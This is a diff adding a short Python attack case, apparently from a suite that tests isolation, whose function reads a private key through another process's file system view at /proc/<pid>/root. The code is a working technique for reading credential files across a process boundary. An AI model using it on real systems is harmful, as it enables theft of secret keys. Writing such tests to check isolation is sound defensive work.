@@ -1,0 +1,9 @@
+"""Reach a key through another process's view of the file system, /proc/<pid>/root.
+
+evidence: secret
+"""
+
+
+def attack(arena: dict[str, str]) -> None:
+    with open(f"/proc/{arena['host']}/root{arena['private_key']}") as file:
+        return file.read()
